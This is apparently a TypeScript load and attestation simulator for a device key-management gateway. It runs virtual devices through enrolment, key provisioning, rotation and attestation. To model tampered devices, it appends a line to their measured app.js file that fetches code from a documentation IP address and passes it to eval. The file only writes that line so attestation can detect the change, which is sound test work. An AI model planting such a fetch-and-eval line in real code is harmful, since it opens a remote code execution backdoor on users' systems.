import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';

import { newAgent, type Agent } from '../agent.js';
import { measureFiles, type MeasuredFile } from '../attestation/index.js';
import type { Keystore, KeystoreData } from '../keystore.js';
import { newHttpClient, type HttpClient } from '../http/client.js';
import type { TlsTrust } from '../http/tls.js';
import { failureCode } from './http.js';
import { silentProgress, type Progress } from './progress.js';
import { PhaseRecorder, type PhaseStats } from './stats.js';

/** The attestation verdicts of the EAR (draft-ietf-rats-ear `ear.status`). */
export type Verdict = 'affirming' | 'warning' | 'contraindicated';

export interface FleetOptions {
  /** e.g. `https://127.0.0.1:8080`. */
  readonly gatewayUrl: string;
  /** How many virtual devices; up to 10 000 fit one process here. */
  readonly size: number;
  /** An operator's `Authorization` header value, made fresh enough on every call. */
  readonly operatorAuthorization: () => Promise<string>;
  /** Where the devices' measured files are written (one shared image, one copy per tampered device). */
  readonly workDir: string;
  /** Device group, and the reference values' group; default `fleet-sim`. */
  readonly group?: string;
  /**
   * Spread the devices over this many groups, `<group>-1` … `<group>-N`, device i in group i mod N
   * (a shard map with rules by group then spreads them over the shards); default 1: all in `group`.
   */
  readonly groups?: number;
  /** Device ids are `<prefix>-00001` …; default `sim`. */
  readonly idPrefix?: string;
  /** How many devices run modified software (spread evenly over the fleet); default 0. */
  readonly tampered?: number;
  /** Operations in flight at once; default 32. */
  readonly concurrency?: number;
  readonly progress?: Progress;
  /** The operator's CA certificate the gateway's certificate chains to (KEYFLEET_CA_FILE). */
  readonly tls?: TlsTrust;
  readonly fetch?: typeof fetch;
}

export interface RunOptions {
  /** How many operations; default one per device. Operation i runs on device i mod size. */
  readonly count?: number;
  readonly concurrency?: number;
  /** Spread the starts evenly over this many ms (a schedule), instead of as fast as possible. */
  readonly spreadMs?: number;
  /** Add to this recorder instead of a new one (several rounds in one row). */
  readonly recorder?: PhaseRecorder;
  /** Report progress (default true). */
  readonly progress?: boolean;
}

/** What one virtual device has seen, as the simulator believes it; tests check it against the ledger. */
export interface DeviceState {
  readonly id: string;
  readonly keyId: string;
  readonly tampered: boolean;
  readonly enrolled: boolean;
  readonly keyProvisioned: boolean;
  /** The data-key version the device holds (0: none). */
  readonly keyVersion: number;
  readonly rotations: number;
  readonly attestations: number;
  readonly lastVerdict: Verdict | null;
  /** The last failure's code, if the last operation failed. */
  readonly lastFailure: string | null;
}

export interface Fleet {
  readonly size: number;
  readonly group: string;
  /** The groups the devices are in: `[group]`, or `<group>-1` … with {@link FleetOptions.groups}. */
  readonly groups: readonly string[];
  /** Publishes the reference values of the pristine image for each of the fleet's groups. */
  setReferenceValues(): Promise<{ transactionId: string }>;
  /** Each device gets an enrolment token from the operator and enrols (the token is not timed). */
  enrol(options?: RunOptions): Promise<PhaseStats>;
  /** The operator provisions one AES-256 data key per device (versions 1 and 2 in the HSM). */
  provisionKeys(options?: RunOptions): Promise<PhaseStats>;
  /** Each device fetches its key's version 1 (a rotation request with current version 0). */
  fetchKeys(options?: RunOptions): Promise<PhaseStats>;
  /** Challenge, evidence over the device's files, verdict: two requests and one appraisal each. */
  attest(options?: RunOptions): Promise<PhaseStats>;
  /** A rotation of the device's data key: signed request, unwrap, KCV check, acknowledgement. */
  rotate(options?: RunOptions): Promise<PhaseStats>;
  /** Any operation under the same load generator (the benchmark's rows). */
  run(name: string, operation: (device: number) => Promise<void>, options?: RunOptions): Promise<PhaseStats>;
  /** One operation of device `index`, untimed: what the phases run, for other load shapes. */
  readonly operations: Readonly<
    Record<'enrol' | 'provisionKey' | 'fetchKey' | 'attest' | 'rotate', (index: number) => Promise<void>>
  >;
  devices(): readonly DeviceState[];
  /** An operator's `Authorization` header (for reads). */
  operatorAuthorization(): Promise<string>;
  readonly client: HttpClient;
}

interface VirtualDevice {
  id: string;
  keyId: string;
  tampered: boolean;
  files: MeasuredFile[];
  store: { data: KeystoreData | null };
  agent: Agent;
  enrolled: boolean;
  keyProvisioned: boolean;
  keyVersion: number;
  rotations: number;
  attestations: number;
  lastVerdict: Verdict | null;
  lastFailure: string | null;
  busy: Promise<void>;
}

/** The simulated devices' software: what they measure, and what the reference values say. */
const image: Readonly<Record<string, string>> = {
  'app.js': '// keyfleet simulated device application\nsetInterval(() => report(readSensor()), 60_000);\n',
  'agent.json': JSON.stringify({ gateway: 'http://127.0.0.1:8080', checkInSeconds: 60 }),
  'boot.cfg': 'secure_boot=1\ndebug_uart=0\n',
};

function memoryKeystore(store: { data: KeystoreData | null }): Keystore {
  // The agent replaces the whole record on every save; keeping the object is enough.
  return {
    load: () => Promise.resolve(store.data),
    save: (data) => {
      store.data = data;
      return Promise.resolve();
    },
  };
}

/** Which devices of `size` are tampered: `count` of them, spread evenly, never the first. */
function tamperedIndexes(size: number, count: number): Set<number> {
  const out = new Set<number>();
  if (count <= 0) return out;
  const step = size / count;
  for (let k = 0; k < count; k++) out.add(Math.min(size - 1, Math.floor(step * k + step / 2)));
  return out;
}

/**
 * A fleet of virtual devices in one process, each running the real agent code (enrolment,
 * rotation with software unwrap and KCV check, EAT evidence over real files) against a gateway
 * over HTTP. Keystores live in memory; measured files on disk.
 */
export function newFleet(options: FleetOptions): Fleet {
  const size = options.size;
  if (!Number.isInteger(size) || size < 1 || size > 100_000) throw new RangeError('size must be 1 to 100000');
  const group = options.group ?? 'fleet-sim';
  const groupCount = options.groups ?? 1;
  if (!Number.isInteger(groupCount) || groupCount < 1 || groupCount > 64)
    throw new RangeError('groups must be 1 to 64');
  const groups = groupCount === 1 ? [group] : Array.from({ length: groupCount }, (_, k) => `${group}-${String(k + 1)}`);
  const groupOf = (i: number): string => groups[i % groups.length] ?? group;
  const prefix = options.idPrefix ?? 'sim';
  const defaultConcurrency = options.concurrency ?? 32;
  const progress = options.progress ?? silentProgress;
  const transport = {
    ...(options.fetch ? { fetch: options.fetch } : {}),
    ...(options.tls ? { tls: options.tls } : {}),
  };
  const client = newHttpClient({ baseUrl: options.gatewayUrl, serviceName: 'gateway', ...transport });
  const digits = Math.max(5, String(size).length);

  const pristineDir = join(options.workDir, 'image');
  mkdirSync(pristineDir, { recursive: true });
  for (const [name, content] of Object.entries(image)) writeFileSync(join(pristineDir, name), content);
  const pristine: MeasuredFile[] = Object.keys(image).map((name) => ({ name, path: join(pristineDir, name) }));

  const tampered = tamperedIndexes(size, options.tampered ?? 0);
  const devices: VirtualDevice[] = [];
  for (let i = 0; i < size; i++) {
    const id = `${prefix}-${String(i + 1).padStart(digits, '0')}`;
    let files = pristine;
    if (tampered.has(i)) {
      // Its application was modified on the device: one changed line, same name.
      const dir = join(options.workDir, id);
      mkdirSync(dir, { recursive: true });
      for (const [name, content] of Object.entries(image)) {
        const changed = name === 'app.js' ? `${content}fetch('http://203.0.113.9/x').then(eval);\n` : content;
        writeFileSync(join(dir, name), changed);
      }
      files = Object.keys(image).map((name) => ({ name, path: join(dir, name) }));
    }
    const store: { data: KeystoreData | null } = { data: null };
    devices.push({
      id,
      keyId: `${id}-data`,
      tampered: tampered.has(i),
      files,
      store,
      agent: newAgent({
        keystorePath: `memory:${id}`,
        keystore: memoryKeystore(store),
        gatewayUrl: options.gatewayUrl,
        deviceId: id,
        ...transport,
      }),
      enrolled: false,
      keyProvisioned: false,
      keyVersion: 0,
      rotations: 0,
      attestations: 0,
      lastVerdict: null,
      lastFailure: null,
      busy: Promise.resolve(),
    });
  }
  const deviceAt = (index: number): VirtualDevice => devices[index % size] as VirtualDevice;

  /** The one load generator: `count` operations, at most `concurrency` in flight, one per device at a time. */
  async function run(
    name: string,
    operation: (device: number) => Promise<void>,
    runOptions: RunOptions = {},
  ): Promise<PhaseStats> {
    const count = runOptions.count ?? size;
    const concurrency = Math.max(1, Math.min(runOptions.concurrency ?? defaultConcurrency, count));
    const recorder = runOptions.recorder ?? new PhaseRecorder(name);
    const report = runOptions.progress ?? true;
    const spreadMs = runOptions.spreadMs ?? 0;
    const base = recorder.done;
    let next = 0;
    let failed = 0;
    if (report) progress.start(name, count);
    const t0 = performance.now();
    const worker = async () => {
      for (;;) {
        const index = next++;
        if (index >= count) return;
        if (spreadMs > 0) {
          // The schedule: operation `index` is due at its slot, not before.
          const due = t0 + (index * spreadMs) / count;
          const wait = due - performance.now();
          if (wait > 0) await new Promise((resolve) => setTimeout(resolve, wait));
        }
        const device = deviceAt(index);
        const previous = device.busy;
        let release = () => {};
        device.busy = new Promise<void>((resolve) => {
          release = resolve;
        });
        await previous;
        const start = performance.now();
        try {
          await operation(index % size);
          recorder.succeeded(start, performance.now());
          device.lastFailure = null;
        } catch (err) {
          const code = failureCode(err);
          recorder.failed(code, start, performance.now());
          device.lastFailure = code;
          failed++;
        } finally {
          release();
        }
        if (report) progress.tick(recorder.done - base, failed);
      }
    };
    await Promise.all(Array.from({ length: concurrency }, worker));
    if (report) progress.finish();
    return recorder.stats();
  }

  const operator = () => options.operatorAuthorization();

  const operations: Fleet['operations'] = {
    enrol: async (i) => {
      const device = devices[i] as VirtualDevice;
      if (device.enrolled) return;
      const { token } = await client.request<{ token: string }>(
        'POST',
        '/v1/enrolment-tokens',
        {
          deviceId: device.id,
          group: groupOf(i),
          location: `rack-${Math.floor(i / 40) + 1}`,
          function: 'sensor-gateway',
        },
        { authorization: await operator() },
      );
      await device.agent.enrol(token);
      device.enrolled = true;
    },
    provisionKey: async (i) => {
      const device = devices[i] as VirtualDevice;
      if (device.keyProvisioned) return;
      await client.request(
        'POST',
        `/v1/devices/${encodeURIComponent(device.id)}/keys`,
        { keyId: device.keyId },
        { authorization: await operator() },
      );
      device.keyProvisioned = true;
    },
    fetchKey: async (i) => {
      const device = devices[i] as VirtualDevice;
      if (device.keyVersion > 0) return;
      const outcome = await device.agent.rotate(device.keyId);
      device.keyVersion = outcome.version;
    },
    attest: async (i) => {
      const device = devices[i] as VirtualDevice;
      const answer = await device.agent.attest({
        measuredFiles: device.files,
        hwmodel: 'keyfleet-sim-1',
        swname: 'keyfleet-agent',
        swversion: '0.1.0',
      });
      device.attestations++;
      if (answer.status === 'affirming' || answer.status === 'warning' || answer.status === 'contraindicated') {
        device.lastVerdict = answer.status;
      }
    },
    rotate: async (i) => {
      const device = devices[i] as VirtualDevice;
      const outcome = await device.agent.rotate(device.keyId);
      if (outcome.version > outcome.previousVersion && outcome.previousVersion > 0) device.rotations++;
      device.keyVersion = outcome.version;
    },
  };

  return {
    size,
    group,
    groups,
    client,
    operatorAuthorization: operator,
    run,
    operations,

    async setReferenceValues() {
      const measured = await measureFiles(pristine);
      const measurements = measured.map((m) => ({ name: m.name, algorithm: m.alg, digest: m.digest }));
      let written = { transactionId: '' };
      for (const each of groups) {
        written = await client.request<{ transactionId: string }>(
          'PUT',
          `/v1/reference-values/${encodeURIComponent(each)}`,
          { policyId: `${group}-golden`, measurements },
          { authorization: await operator() },
        );
      }
      return written;
    },

    enrol: (runOptions) => run('enrol', operations.enrol, runOptions),
    provisionKeys: (runOptions) => run('provision key', operations.provisionKey, runOptions),
    fetchKeys: (runOptions) => run('fetch key v1', operations.fetchKey, runOptions),
    attest: (runOptions) => run('attest', operations.attest, runOptions),
    rotate: (runOptions) => run('rotate', operations.rotate, runOptions),

    devices() {
      return devices.map((d) => ({
        id: d.id,
        keyId: d.keyId,
        tampered: d.tampered,
        enrolled: d.enrolled,
        keyProvisioned: d.keyProvisioned,
        keyVersion: d.keyVersion,
        rotations: d.rotations,
        attestations: d.attestations,
        lastVerdict: d.lastVerdict,
        lastFailure: d.lastFailure,
      }));
    },
  };
}
